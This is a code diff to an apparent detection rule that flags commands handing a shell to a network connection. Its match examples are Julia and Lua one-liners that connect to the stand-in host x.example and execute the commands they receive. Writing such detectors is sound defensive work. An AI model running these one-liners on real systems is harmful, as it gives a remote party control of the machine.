@@ -55,7 +55,7 @@ def shell_handed_over(effects: Sequence[Effect], context: Context) -> Effect | N
     why="This is how a shell is handed to somebody else: code takes its orders from the connection.",
     instead="save it to a file, read it, then run the file",
     match=[
-        ("julia -e 's = connect(\"x.example\", 9); run(`$(readline(s))`)'", "unread-inline-code", "network-connects"),
+        ("lua -e 'io.popen(socket.connect(\"x.example\", 9):receive())'", "unread-inline-code"),
     ],
     not_match=["julia -e 'run(`$x`)'", "julia -e 's = connect(\"x.example\", 9); println(s)'"],
 )
